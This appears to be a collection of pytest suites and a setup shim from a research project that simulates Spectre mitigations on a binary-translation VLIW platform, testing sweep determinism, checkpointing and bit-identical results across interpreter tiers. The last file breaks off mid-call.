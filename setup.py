"""Legacy setup shim: allows `pip install -e .` without the wheel package."""

from setuptools import setup

setup()
