"""Parallel sweep runner: determinism, memoization, key stability.

The ordering guarantee under test is the one ``repro sweep --jobs N``
advertises: a parallel sweep emits exactly the same JSON/CSV rows as a
serial one, because results are assembled in submission order rather
than completion order.
"""

import pytest

import repro.platform.parallel as parallel
from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.comparison import comparison_csv, comparison_json
from repro.platform.parallel import (
    sweep_comparisons,
    sweep_point_key,
)
from repro.security.policy import ALL_POLICIES, MitigationPolicy
from repro.vliw.config import VliwConfig, wide_config


@pytest.fixture(scope="module")
def workloads():
    return [(name, build_kernel_program(SMALL_SIZES[name]()))
            for name in ("gemm", "atax")]


def test_parallel_rows_identical_to_serial(workloads):
    serial = sweep_comparisons(workloads, jobs=1)
    fanned = sweep_comparisons(workloads, jobs=2)
    assert comparison_json(serial) == comparison_json(fanned)
    assert comparison_csv(serial) == comparison_csv(fanned)


def test_workload_order_preserved(workloads):
    comparisons = sweep_comparisons(workloads, jobs=2)
    assert [c.workload for c in comparisons] == [n for n, _ in workloads]
    for comparison in comparisons:
        assert list(comparison.results) == [p.label for p in ALL_POLICIES]


def test_memo_cache_round_trip(tmp_path, workloads):
    first = sweep_comparisons(workloads, cache_dir=tmp_path)
    entries = list(tmp_path.glob("*.json"))
    assert len(entries) == len(workloads) * len(ALL_POLICIES)
    cached = sweep_comparisons(workloads, cache_dir=tmp_path)
    assert comparison_json(first) == comparison_json(cached)


def test_memo_cache_skips_simulation(tmp_path, workloads, monkeypatch):
    sweep_comparisons(workloads, cache_dir=tmp_path)

    def explode(*args, **kwargs):
        raise AssertionError("cache hit should not re-simulate")

    monkeypatch.setattr(parallel, "run_sweep_point", explode)
    sweep_comparisons(workloads, cache_dir=tmp_path)  # all hits
    with pytest.raises(AssertionError):
        sweep_comparisons(workloads)  # no cache -> must simulate


def test_corrupt_cache_entry_recomputed(tmp_path, workloads):
    baseline = sweep_comparisons(workloads, cache_dir=tmp_path)
    for entry in tmp_path.glob("*.json"):
        entry.write_text("{not json")
    recomputed = sweep_comparisons(workloads, cache_dir=tmp_path)
    assert comparison_json(baseline) == comparison_json(recomputed)


def test_sweep_point_key_sensitivity(workloads):
    _name, program = workloads[0]
    base = sweep_point_key(program, MitigationPolicy.UNSAFE)
    assert base == sweep_point_key(program, MitigationPolicy.UNSAFE)
    assert base != sweep_point_key(program, MitigationPolicy.GHOSTBUSTERS)
    assert base != sweep_point_key(program, MitigationPolicy.UNSAFE,
                                   vliw_config=wide_config(8))
    assert base != sweep_point_key(
        program, MitigationPolicy.UNSAFE,
        engine_config=DbtEngineConfig(hot_threshold=2))
    assert base != sweep_point_key(program, MitigationPolicy.UNSAFE,
                                   interpreter="reference")
    # Default configs fingerprint identically to explicit defaults.
    assert base == sweep_point_key(program, MitigationPolicy.UNSAFE,
                                   vliw_config=VliwConfig(),
                                   engine_config=DbtEngineConfig())


def test_jobs_must_be_positive(workloads):
    with pytest.raises(ValueError):
        sweep_comparisons(workloads, jobs=0)


def test_expected_exit_code_enforced(workloads):
    name, _program = workloads[0]
    with pytest.raises(AssertionError):
        sweep_comparisons(workloads, expect_exit_codes={name: -12345})
