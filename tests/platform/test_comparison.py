"""Multi-policy comparison runner tests."""

import csv
import io
import json

import pytest

from repro.isa.assembler import assemble
from repro.platform.comparison import (
    compare_policies,
    comparison_csv,
    comparison_json,
    comparison_records,
    slowdown_table,
)
from repro.security.policy import MitigationPolicy

SOURCE = """
_start:
    li a0, 0
    li t0, 0
    li t1, 60
    la t2, data
head:
    slli t3, t0, 3
    andi t3, t3, 127
    add t3, t2, t3
    ld t4, 0(t3)
    add a0, a0, t4
    mul t4, t4, t4
    sd t4, 128(t3)
    addi t0, t0, 1
    blt t0, t1, head
    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
data:
    .dword 1, 2, 3, 4, 5, 6, 7, 8
    .dword 9, 10, 11, 12, 13, 14, 15, 16
    .space 256
"""


@pytest.fixture(scope="module")
def comparison():
    return compare_policies("demo", assemble(SOURCE))


def test_all_policies_present(comparison):
    assert set(comparison.results) == {
        "unsafe", "our approach", "fence on detection", "no speculation",
    }


def test_no_speculation_is_slower(comparison):
    assert comparison.slowdown("no speculation") > 1.0


def test_ghostbusters_is_free_without_patterns(comparison):
    assert comparison.slowdown("our approach") == pytest.approx(1.0)


def test_exit_code_guard():
    with pytest.raises(AssertionError, match="exited with"):
        compare_policies("demo", assemble(SOURCE), expect_exit_code=1)


def test_expected_exit_code_accepted(comparison):
    expected = comparison.results["unsafe"].exit_code
    compare_policies(
        "demo", assemble(SOURCE),
        policies=[MitigationPolicy.UNSAFE],
        expect_exit_code=expected,
    )


def test_slowdown_table_renders(comparison):
    table = slowdown_table([comparison])
    assert "demo" in table
    assert "our approach" in table
    assert "%" in table
    assert "geomean/avg" in table


def test_comparison_records_flatten(comparison):
    records = comparison_records([comparison])
    assert len(records) == 4
    unsafe = next(r for r in records if r["policy"] == "unsafe")
    assert unsafe["workload"] == "demo"
    assert unsafe["slowdown_vs_unsafe"] == pytest.approx(1.0)
    assert unsafe["cycles"] > 0


def test_comparison_json_is_machine_readable(comparison):
    records = json.loads(comparison_json([comparison]))
    no_spec = next(r for r in records if r["policy"] == "no speculation")
    assert no_spec["slowdown_vs_unsafe"] > 1.0


def test_comparison_csv_round_trips(comparison):
    rows = list(csv.DictReader(io.StringIO(comparison_csv([comparison]))))
    assert len(rows) == 4
    assert {row["policy"] for row in rows} == {
        "unsafe", "our approach", "fence on detection", "no speculation",
    }
    assert all(int(row["cycles"]) > 0 for row in rows)
