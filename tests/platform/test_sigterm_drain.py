"""``repro sweep --jobs N`` + SIGTERM = graceful drain: in-flight
points finish and checkpoint, the exit code is pinned to
``DRAIN_EXIT_CODE``, and a re-run resumes from the partial ``--resume``
file to byte-identical rows."""

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from repro.platform.parallel import DRAIN_EXIT_CODE, checkpoint_load

_REPO_SRC = str(Path(__file__).resolve().parents[2] / "src")

#: kernels × policies in the default small sweep.
_TOTAL_POINTS = 14 * 4


def _sweep(*extra, timeout=300):
    env = dict(os.environ)
    env["PYTHONPATH"] = _REPO_SRC
    return subprocess.Popen(
        [sys.executable, "-m", "repro", "sweep", "--jobs", "2",
         "--json", "-", *extra],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_drain_exit_code_is_pinned():
    assert DRAIN_EXIT_CODE == 75  # EX_TEMPFAIL; wrappers depend on it


def test_sigterm_drains_checkpoints_and_resumes(tmp_path):
    ckpt = tmp_path / "sweep.jsonl"
    child = _sweep("--resume", str(ckpt))
    # SIGTERM once at least one point has committed to the checkpoint —
    # mid-sweep, with most points still unstarted.
    deadline = time.time() + 120
    while time.time() < deadline and child.poll() is None:
        if ckpt.exists() and len(checkpoint_load(ckpt, compact=False)) >= 1:
            break
        time.sleep(0.005)
    assert child.poll() is None, "sweep finished before SIGTERM landed"
    child.send_signal(signal.SIGTERM)
    _, err = child.communicate(timeout=120)

    assert child.returncode == DRAIN_EXIT_CODE, err
    assert "sweep drained on SIGTERM" in err
    assert str(ckpt) in err  # the resume hint names the file
    partial = checkpoint_load(ckpt)
    assert 1 <= len(partial) < _TOTAL_POINTS  # drained, not completed

    # Resume: same command runs the remaining points and exits clean.
    resumed = _sweep("--resume", str(ckpt))
    out, err = resumed.communicate(timeout=300)
    assert resumed.returncode == 0, err
    rows = json.loads(out)
    assert len(rows) == _TOTAL_POINTS

    baseline_child = _sweep()
    baseline_out, err = baseline_child.communicate(timeout=300)
    assert baseline_child.returncode == 0, err
    assert rows == json.loads(baseline_out)  # bit-identical to one shot
