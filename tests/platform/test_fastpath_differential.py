"""Differential test: the fast-path interpreter is bit-identical to the
seed reference interpreter.

This is the non-negotiable invariant of the host-execution fast path:
pre-decoding translated blocks must not change a single architectural or
micro-architectural observable.  Every (workload, policy) point below is
run twice — once on the reference per-``VliwOp`` loop, once on the
finalized fast path — and compared on cycles, stalls, rollbacks,
register/memory state and (for the PoCs) the recovered secret bytes.
"""

import pytest

from repro.attacks.harness import AttackVariant, run_attack
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.system import DbtSystem
from repro.security.policy import ALL_POLICIES

SECRET = b"GB"
KERNELS = ("gemm", "atax")


def _core_observables(result):
    return {
        "exit_code": result.exit_code,
        "cycles": result.cycles,
        "instructions": result.instructions,
        "blocks_executed": result.blocks_executed,
        "rollbacks": result.rollbacks,
        "output": result.output,
        "bundles": result.core.bundles,
        "ops": result.core.ops,
        "stall_cycles": result.core.stall_cycles,
        "exits_taken": result.core.exits_taken,
        "cache_hits": result.cache.hits,
        "cache_misses": result.cache.misses,
    }


@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
@pytest.mark.parametrize("variant", list(AttackVariant),
                         ids=[v.value for v in AttackVariant])
def test_attacks_bit_identical(variant, policy):
    reference = run_attack(variant, policy, secret=SECRET,
                           interpreter="reference")
    fast = run_attack(variant, policy, secret=SECRET, interpreter="fast")
    assert fast.recovered == reference.recovered
    assert fast.bytes_recovered == reference.bytes_recovered
    assert _core_observables(fast.run) == _core_observables(reference.run)


@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
@pytest.mark.parametrize("kernel", KERNELS)
def test_kernels_bit_identical(kernel, policy):
    program = build_kernel_program(SMALL_SIZES[kernel]())
    systems = {}
    results = {}
    for interpreter in ("reference", "fast"):
        system = DbtSystem(program, policy=policy, interpreter=interpreter)
        systems[interpreter] = system
        results[interpreter] = system.run()
    assert (_core_observables(results["fast"])
            == _core_observables(results["reference"]))
    # Full architectural register file and final core cycle.
    assert (systems["fast"].core.regs._regs
            == systems["reference"].core.regs._regs)
    assert systems["fast"].core.cycle == systems["reference"].core.cycle
    assert systems["fast"].core.instret == systems["reference"].core.instret


def test_interpreter_argument_validated():
    program = build_kernel_program(SMALL_SIZES["gemm"]())
    with pytest.raises(ValueError):
        DbtSystem(program, interpreter="jit")
