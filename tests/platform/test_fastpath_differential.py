"""Differential tests: the four host tiers — reference, fast path,
tier-3 compiled and tier-4 trace-compiled — are bit-identical, and
chained dispatch is bit-identical to the seed engine loop on every
tier.

These are the non-negotiable invariants of the host-execution layer:
pre-decoding translated blocks (``repro.vliw.fastpath``), compiling
them to specialized host functions (``repro.vliw.codegen``), chasing
chain links between them (``repro.dbt.chaining``) and fusing hot
chains into megablock drivers (``repro.dbt.traces``) must not change a
single architectural or micro-architectural observable.  Every
(workload, policy) point below is run per tier — reference vs fast vs
compiled vs trace, then unchained vs chained — and compared on cycles,
stalls, rollbacks, register/memory state, the engine's translation
order, optimization decisions, profile counts and (for the PoCs) the
recovered secret bytes.  A final section pins down that *when* the
asynchronous compile queue finishes a megablock — immediately, at an
arbitrary later safe point, on a background thread, or never — is
invisible to every observable.
"""

import dataclasses

import pytest

from repro.attacks.harness import AttackVariant, build_attack_program, run_attack
from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.system import DbtSystem
from repro.security.policy import ALL_POLICIES

SECRET = b"GB"
KERNELS = ("gemm", "atax")
INTERPRETERS = ("reference", "fast", "compiled")

#: Code-cache shapes the chained differential runs under.  The bounded
#: shapes force capacity events mid-run, so the comparison also proves
#: that evictions/flushes tear chains down at exactly the block
#: boundaries where the unchained loop would retranslate.
CACHE_MODES = {
    "unbounded": {},
    "flush-capacity": {"code_cache_capacity": 6, "code_cache_policy": "flush"},
    "lru-capacity": {"code_cache_capacity": 6, "code_cache_policy": "lru"},
}


def _core_observables(result):
    return {
        "exit_code": result.exit_code,
        "cycles": result.cycles,
        "instructions": result.instructions,
        "blocks_executed": result.blocks_executed,
        "rollbacks": result.rollbacks,
        "output": result.output,
        "bundles": result.core.bundles,
        "ops": result.core.ops,
        "stall_cycles": result.core.stall_cycles,
        "exits_taken": result.core.exits_taken,
        "cache_hits": result.cache.hits,
        "cache_misses": result.cache.misses,
    }


def _engine_observables(system):
    """Everything engine-visible that chaining could plausibly skew:
    what got translated (and in what order), what got optimized, the
    profile feedback, and the code cache's capacity events.  The
    translation cache's ``lookups``/``hits`` are deliberately excluded —
    eliding the per-block engine round trip is the whole point."""
    engine = system.engine
    tcache = engine.cache.stats
    return {
        "install_order": [block.guest_entry for block in engine.cache.blocks()],
        "install_kinds": [block.kind for block in engine.cache.blocks()],
        "engine_stats": dataclasses.asdict(engine.stats),
        "block_counts": dict(engine.profile._block_counts),
        "branches": {address: (profile.taken, profile.not_taken)
                     for address, profile in engine.profile._branches.items()},
        "installs": tcache.installs,
        "misses": tcache.misses,
        "replacements": tcache.replacements,
        "capacity_flushes": tcache.capacity_flushes,
        "evictions": tcache.evictions,
    }


def _run_pair(program, policy, interpreter=None, **config_fields):
    """One workload under the seed loop and under chained dispatch."""
    systems = {}
    results = {}
    for chain in (False, True):
        system = DbtSystem(
            program, policy=policy, interpreter=interpreter,
            engine_config=DbtEngineConfig(chain=chain, **config_fields))
        systems[chain] = system
        results[chain] = system.run()
    return systems, results


def _assert_chain_identical(systems, results):
    assert _core_observables(results[True]) == _core_observables(results[False])
    assert (_engine_observables(systems[True])
            == _engine_observables(systems[False]))
    assert systems[True].core.regs._regs == systems[False].core.regs._regs
    assert systems[True].core.cycle == systems[False].core.cycle
    assert systems[True].core.instret == systems[False].core.instret
    # The chained run actually chained (and the seed run did not).
    assert results[False].chain is None
    assert results[True].chain is not None
    assert results[True].chain.dispatches > 0
    assert sum(results[True].chain.breaks.values()) > 0


@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
@pytest.mark.parametrize("variant", list(AttackVariant),
                         ids=[v.value for v in AttackVariant])
def test_attacks_bit_identical(variant, policy):
    reference = run_attack(variant, policy, secret=SECRET,
                           interpreter="reference")
    for interpreter in ("fast", "compiled"):
        other = run_attack(variant, policy, secret=SECRET,
                           interpreter=interpreter)
        assert other.recovered == reference.recovered
        assert other.bytes_recovered == reference.bytes_recovered
        assert _core_observables(other.run) == _core_observables(reference.run)


@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
@pytest.mark.parametrize("kernel", KERNELS)
def test_kernels_bit_identical(kernel, policy):
    program = build_kernel_program(SMALL_SIZES[kernel]())
    systems = {}
    results = {}
    for interpreter in INTERPRETERS:
        system = DbtSystem(program, policy=policy, interpreter=interpreter)
        systems[interpreter] = system
        results[interpreter] = system.run()
    for interpreter in ("fast", "compiled"):
        assert (_core_observables(results[interpreter])
                == _core_observables(results["reference"]))
        assert (_engine_observables(systems[interpreter])
                == _engine_observables(systems["reference"]))
        # Full architectural register file and final core cycle.
        assert (systems[interpreter].core.regs._regs
                == systems["reference"].core.regs._regs)
        assert (systems[interpreter].core.cycle
                == systems["reference"].core.cycle)
        assert (systems[interpreter].core.instret
                == systems["reference"].core.instret)
    # The compiled tier actually compiled (or this proves nothing).
    assert results["compiled"].codegen is not None
    assert results["compiled"].codegen.compiles > 0


def test_interpreter_argument_validated():
    program = build_kernel_program(SMALL_SIZES["gemm"]())
    with pytest.raises(ValueError):
        DbtSystem(program, interpreter="jit")


# ---------------------------------------------------------------------------
# Chained dispatch vs the seed engine loop.
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("interpreter", ("fast", "compiled", "trace"))
@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
@pytest.mark.parametrize("variant", list(AttackVariant),
                         ids=[v.value for v in AttackVariant])
def test_attacks_chained_bit_identical(variant, policy, interpreter):
    program = build_attack_program(variant, SECRET)
    systems, results = _run_pair(program, policy, interpreter=interpreter)
    _assert_chain_identical(systems, results)
    # The leak verdict — the paper's headline observable — is unchanged.
    assert (results[True].output[:len(SECRET)]
            == results[False].output[:len(SECRET)])
    if interpreter == "trace":
        # The fused tier actually ran megablocks, or the trace leg of
        # this comparison proves nothing.
        stats = systems[True].traces.stats
        assert stats.recorded > 0
        assert stats.dispatches > 0


@pytest.mark.parametrize("interpreter", ("fast", "compiled", "trace"))
@pytest.mark.parametrize("cache_mode", list(CACHE_MODES))
@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
@pytest.mark.parametrize("kernel", KERNELS)
def test_kernels_chained_bit_identical(kernel, policy, cache_mode,
                                       interpreter):
    program = build_kernel_program(SMALL_SIZES[kernel]())
    systems, results = _run_pair(program, policy, interpreter=interpreter,
                                 **CACHE_MODES[cache_mode])
    _assert_chain_identical(systems, results)
    if cache_mode != "unbounded":
        # The bounded shapes must actually exercise capacity handling,
        # or this parametrization proves nothing.
        tcache = systems[True].engine.cache.stats
        assert tcache.capacity_flushes + tcache.evictions > 0
    if interpreter == "trace":
        assert systems[True].traces.stats.recorded > 0
        if cache_mode == "unbounded":
            assert systems[True].traces.stats.dispatches > 0


# ---------------------------------------------------------------------------
# Asynchronous codegen: compile *timing* is invisible to observables.
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
def test_async_codegen_timing_invisible(policy):
    """A megablock driver may finish compiling immediately (sync), at an
    arbitrary later safe point (manual, pumped from the drain hook), on
    a background thread racing the engine, or never (manual, never
    pumped).  All four runs must be bit-identical: the fused tier is a
    pure host acceleration, so *when* a trace installs only moves work
    between the fused and per-block paths."""
    program = build_kernel_program(SMALL_SIZES["gemm"]())
    runs = {}
    for mode in ("sync", "manual-pumped", "thread", "manual-never"):
        system = DbtSystem(
            program, policy=policy, interpreter="trace",
            engine_config=DbtEngineConfig(chain=True),
            compile_queue_mode=mode.split("-")[0])
        if mode == "manual-pumped":
            # Finish one pending compile per safe point: installs land
            # mid-run, dispatches later than sync mode would.
            queue = system.compile_queue
            original_drain = queue.drain

            def pumping_drain(queue=queue, original=original_drain):
                queue.pump(1)
                return original()

            queue.drain = pumping_drain
        runs[mode] = (system, system.run())
    base_system, base_result = runs["sync"]
    for mode, (system, result) in runs.items():
        assert _core_observables(result) == _core_observables(base_result), mode
        assert _engine_observables(system) == _engine_observables(base_system), mode
        assert system.core.regs._regs == base_system.core.regs._regs, mode
        assert system.core.cycle == base_system.core.cycle, mode
        assert system.core.instret == base_system.core.instret, mode
    # The modes genuinely differed in when (or whether) traces compiled,
    # or this proves nothing about timing.
    assert runs["sync"][0].traces.stats.dispatches > 0
    assert runs["manual-pumped"][0].traces.stats.compiled > 0
    never = runs["manual-never"][0]
    assert never.traces.stats.recorded > 0
    assert never.traces.stats.compiled == 0
    assert never.compile_queue.stats.stalled > 0


# ---------------------------------------------------------------------------
# Batched multi-guest execution over a shared translation pool.
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("chain", (False, True), ids=("unchained", "chained"))
@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
def test_batched_pool_bit_identical(policy, chain):
    """N guests co-hosted on one MultiGuestHost, sharing a translation
    pool, are byte-identical to N independent single-guest runs — per
    guest, on every core/engine observable and the final register file.

    The batch holds both PoCs twice each (duplicates force genuine pool
    hits: artifacts are shared only within a (program, policy, config)
    shard) plus a kernel, so the comparison covers the attack programs'
    speculation/rollback behaviour and a loop-heavy workload at once.
    """
    from repro.dbt.pool import TranslationPool
    from repro.platform.multiguest import MultiGuestHost

    programs = [build_attack_program(AttackVariant.SPECTRE_V1, SECRET),
                build_attack_program(AttackVariant.SPECTRE_V4, SECRET),
                build_kernel_program(SMALL_SIZES["atax"]())]
    guests = programs + programs  # duplicates share a shard
    engine_config = DbtEngineConfig(chain=chain)

    pool = TranslationPool()
    host = MultiGuestHost(pool=pool)
    for program in guests:
        host.add_guest(program, policy=policy, engine_config=engine_config)
    batched_results = host.run_all()
    batched_systems = host.systems

    for index, program in enumerate(guests):
        solo = DbtSystem(program, policy=policy,
                         engine_config=DbtEngineConfig(chain=chain))
        solo_result = solo.run()
        batched = batched_results[index]
        assert batched is not None
        assert _core_observables(batched) == _core_observables(solo_result)
        assert (_engine_observables(batched_systems[index])
                == _engine_observables(solo))
        assert (batched_systems[index].core.regs._regs
                == solo.core.regs._regs)
        assert batched.output == solo_result.output
    # The pool genuinely shared work (or this proves nothing): every
    # guest registered, and the duplicate guests hit the shard their
    # twins seeded.
    assert pool.stats.guests == len(guests)
    assert pool.stats.installs > 0
    assert pool.stats.hits > 0


@pytest.mark.parametrize("interpreter", ("fast", "compiled", "trace"))
def test_batched_pool_bit_identical_across_tiers(interpreter):
    """The pool shares finalized/compiled/trace artifacts across guests;
    each accelerated tier must stay bit-identical to its solo run."""
    from repro.dbt.pool import TranslationPool
    from repro.platform.multiguest import MultiGuestHost

    program = build_kernel_program(SMALL_SIZES["gemm"]())
    engine_config = DbtEngineConfig(chain=(interpreter == "trace"))
    pool = TranslationPool()
    host = MultiGuestHost(pool=pool)
    for policy in ALL_POLICIES:
        for _ in range(2):
            host.add_guest(program, policy=policy,
                           engine_config=engine_config,
                           interpreter=interpreter)
    batched_results = host.run_all()
    index = 0
    for policy in ALL_POLICIES:
        solo = DbtSystem(program, policy=policy,
                         engine_config=engine_config,
                         interpreter=interpreter)
        solo_result = solo.run()
        for _ in range(2):
            batched = batched_results[index]
            system = host.systems[index]
            assert _core_observables(batched) == _core_observables(solo_result)
            assert _engine_observables(system) == _engine_observables(solo)
            assert system.core.regs._regs == solo.core.regs._regs
            index += 1
    assert pool.stats.hits > 0


# ---------------------------------------------------------------------------
# Vectorized lane-batched cache timing engine (``timing="vector"``).
# ---------------------------------------------------------------------------

#: The leakage-meter bytes the observer exports; the gated-guest leg
#: asserts these stay equal to a solo observed run, byte for byte.
LEAKAGE_COUNTERS = (
    "mcb.rollbacks_total",
    "mcb.squashed_speculative_loads_total",
    "mcb.rollback_cycles_total",
    "mem.speculative_load_misses_total",
    "mem.cflush_total",
)


def _cache_observables(system):
    """Everything the data cache exposes to a guest or a probe-based
    attacker: the aggregate stats (reading a lane's stats forces its
    drain), the exact resident-line set, occupancy, and per-address
    probe outcomes on and off the resident set."""
    cache = system.memory.cache
    stats = cache.stats
    resident = cache.resident_lines()
    probes = {line: cache.probe(line + 7) for line in resident[:16]}
    probes[0x7FF0_0000] = cache.probe(0x7FF0_0000)
    return {
        "hits": stats.hits,
        "misses": stats.misses,
        "evictions": stats.evictions,
        "flushes": stats.flushes,
        "resident_lines": resident,
        "occupancy": cache.occupancy(),
        "probes": probes,
    }


@pytest.mark.parametrize("interpreter",
                         ("reference", "fast", "compiled", "trace"))
@pytest.mark.parametrize("replacement", ("lru", "fifo", "random"))
def test_lane_vector_timing_bit_identical(replacement, interpreter):
    """The headline gate for the vector timing engine: guests co-hosted
    on numpy cache lanes are byte-identical to scalar solo runs — every
    stat, per-access latency (pinned transitively by cycles/stalls),
    probe()/resident_lines() observable and recovered secret byte — for
    both PoCs under every mitigation policy, per replacement policy, per
    tier."""
    from repro.mem.cache import CacheConfig
    from repro.platform.multiguest import MultiGuestHost
    from repro.vliw.config import VliwConfig

    vliw_config = VliwConfig(cache=CacheConfig(replacement=replacement))
    engine_config = DbtEngineConfig(chain=(interpreter == "trace"))
    guests = [(variant, policy)
              for policy in ALL_POLICIES for variant in AttackVariant]

    host = MultiGuestHost(timing="vector")
    for variant, policy in guests:
        host.add_guest(build_attack_program(variant, SECRET), policy=policy,
                       vliw_config=vliw_config, engine_config=engine_config,
                       interpreter=interpreter)
    batched_results = host.run_all()

    # Every guest genuinely ran on a lane (bare guests, one geometry).
    assert all(system.timing == "vector" for system in host.systems)
    counters = host.lanes.counters()
    assert counters["mem.cache.lane.groups"] == 1
    assert counters["mem.cache.lane.lanes"] == len(guests)
    assert counters["mem.cache.lane.excluded"] == 0
    assert counters["mem.cache.lane.drains"] > 0
    assert counters["mem.cache.lane.entries"] > 0

    for index, (variant, policy) in enumerate(guests):
        solo = DbtSystem(build_attack_program(variant, SECRET),
                         policy=policy, vliw_config=vliw_config,
                         engine_config=engine_config,
                         interpreter=interpreter)
        solo_result = solo.run()
        batched = batched_results[index]
        system = host.systems[index]
        assert batched is not None
        assert _core_observables(batched) == _core_observables(solo_result)
        assert _engine_observables(system) == _engine_observables(solo)
        assert _cache_observables(system) == _cache_observables(solo)
        assert system.core.regs._regs == solo.core.regs._regs
        assert system.core.cycle == solo.core.cycle
        assert batched.output == solo_result.output


def test_lane_vector_observer_gated_fallback():
    """An observed guest falls back to the scalar cache model inside a
    vector-timing host (mirroring the pool-sharing gate), stays
    bit-identical, and its leakage-meter bytes equal a solo observed
    run's — while its bare co-guests still run on lanes."""
    from repro.obs.observer import Observer
    from repro.platform.multiguest import MultiGuestHost

    program = build_attack_program(AttackVariant.SPECTRE_V1, SECRET)
    policy = ALL_POLICIES[0]

    host = MultiGuestHost(timing="vector")
    observer = Observer()
    observed = host.add_guest(program, policy=policy, observer=observer)
    bare = host.add_guest(program, policy=policy)
    results = host.run_all()

    assert observed.timing == "scalar"
    assert bare.timing == "vector"
    assert host.lanes.counters()["mem.cache.lane.excluded"] == 1
    assert host.lanes.counters()["mem.cache.lane.lanes"] == 1

    solo_observer = Observer()
    solo = DbtSystem(program, policy=policy, observer=solo_observer)
    solo_result = solo.run()
    for result, system in ((results[0], observed), (results[1], bare)):
        assert _core_observables(result) == _core_observables(solo_result)
        assert _cache_observables(system) == _cache_observables(solo)
    for name in LEAKAGE_COUNTERS:
        assert (observer.registry.value(name)
                == solo_observer.registry.value(name)), name


def test_lane_vector_verify_replay(monkeypatch):
    """REPRO_LANE_VERIFY=1 re-derives every drained log through the
    lockstep numpy replay; any divergence raises inside drain, so a
    clean run here is the positive control that the verifier is armed
    and agrees with the synchronous lane outcomes."""
    from repro.platform.multiguest import MultiGuestHost

    monkeypatch.setenv("REPRO_LANE_VERIFY", "1")
    host = MultiGuestHost(timing="vector")
    for variant in AttackVariant:
        host.add_guest(build_attack_program(variant, SECRET),
                       policy=ALL_POLICIES[0])
    results = host.run_all()
    assert all(result is not None for result in results)
    (model,) = host.lanes.groups.values()
    assert model.verify
    assert model.drains > 0
    assert model.drained_entries > 0


def test_chained_reference_interpreter_matches_seed():
    """Chaining with the reference interpreter takes the general
    (per-block) dispatch loop; it too must be bit-identical."""
    program = build_kernel_program(SMALL_SIZES["atax"]())
    seed = DbtSystem(program, interpreter="reference")
    chained = DbtSystem(program, interpreter="reference",
                        engine_config=DbtEngineConfig(chain=True))
    seed_result = seed.run()
    chained_result = chained.run()
    assert _core_observables(chained_result) == _core_observables(seed_result)
    assert _engine_observables(chained) == _engine_observables(seed)
    assert chained_result.chain is not None
    assert chained_result.chain.dispatches > 0
