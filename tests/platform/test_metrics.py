"""Metrics / comparison rendering tests."""

import pytest

from repro.platform.comparison import ascii_figure, slowdown_table
from repro.platform.metrics import PolicyComparison, SystemRunResult
from repro.security.policy import MitigationPolicy


def _comparison(name="demo", unsafe=1000, ghostbusters=1000, no_spec=1500):
    return PolicyComparison(name, {
        "unsafe": SystemRunResult(0, unsafe, 500),
        "our approach": SystemRunResult(0, ghostbusters, 500),
        "no speculation": SystemRunResult(0, no_spec, 500),
    })


def test_slowdown_ratios():
    comparison = _comparison()
    assert comparison.slowdown("no speculation") == pytest.approx(1.5)
    assert comparison.slowdown("our approach") == pytest.approx(1.0)


def test_ipc():
    result = SystemRunResult(exit_code=0, cycles=200, instructions=100)
    assert result.ipc == pytest.approx(0.5)
    assert SystemRunResult(0, 0, 0).ipc == 0.0


def test_summary_lines():
    result = SystemRunResult(exit_code=3, cycles=10, instructions=5,
                             blocks_executed=2, rollbacks=1)
    text = result.summary()
    assert "exit code      : 3" in text
    assert "MCB rollbacks  : 1" in text


def test_slowdown_table_columns():
    table = slowdown_table([_comparison()], policies=(
        MitigationPolicy.GHOSTBUSTERS, MitigationPolicy.NO_SPECULATION,
    ))
    lines = table.splitlines()
    assert "our approach" in lines[0] and "no speculation" in lines[0]
    assert "150.0%" in table
    assert "geomean/avg" in lines[-1]


def test_ascii_figure_scaling():
    chart = ascii_figure([_comparison(no_spec=2000)], width=10, ceiling=2.0)
    # 200% fills the whole width.
    assert "#" * 10 in chart
    chart = ascii_figure([_comparison(no_spec=1000)], width=10)
    # 100% draws an empty bar.
    assert "#" not in chart.splitlines()[-1]


def test_ascii_figure_clamps_above_ceiling():
    chart = ascii_figure([_comparison(no_spec=5000)], width=10, ceiling=2.0)
    last = chart.splitlines()[-1]
    assert "#" * 10 in last and "#" * 11 not in last
    assert "500.0%" in last
