"""Hardened parallel runner: crashes, hangs, fallbacks, checksums,
checkpoints — every failure mode injected and survived.

The expensive scenarios (real worker pools) share one small grid:
one kernel × two policies, so each pool pass simulates two points.
"""

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import repro.platform.parallel as parallel
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.comparison import comparison_json
from repro.platform.parallel import (
    ParallelRunError,
    PointFailure,
    RunnerTelemetry,
    checkpoint_append,
    checkpoint_load,
    failure_table,
    run_points,
    run_sweep_point,
    sweep_comparisons,
    sweep_point_key,
)
from repro.resilience.faults import WorkerFault
from repro.security.policy import MitigationPolicy

POLICIES = (MitigationPolicy.UNSAFE, MitigationPolicy.GHOSTBUSTERS)


@pytest.fixture(scope="module")
def workloads():
    return [("atax", build_kernel_program(SMALL_SIZES["atax"]()))]


@pytest.fixture(scope="module")
def baseline(workloads):
    return comparison_json(sweep_comparisons(workloads, policies=POLICIES))


def _rows(workloads, **kwargs):
    return comparison_json(sweep_comparisons(workloads, policies=POLICIES,
